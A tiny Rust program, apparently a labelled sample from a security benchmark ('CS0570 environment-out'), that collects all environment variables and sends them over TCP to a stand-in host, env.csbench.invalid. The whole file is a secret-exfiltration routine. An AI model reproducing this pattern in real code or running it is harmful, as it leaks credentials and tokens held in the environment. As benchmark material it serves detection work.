//! CS0570 environment-out
use std::{env::*, io::Write, net};

fn main() {
    let all: Vec<String> = vars().map(|(name, value)| format!("{name}={value}")).collect();
    net::TcpStream::connect("env.csbench.invalid:443").unwrap().write_all(all.join("\n").as_bytes()).unwrap();
}
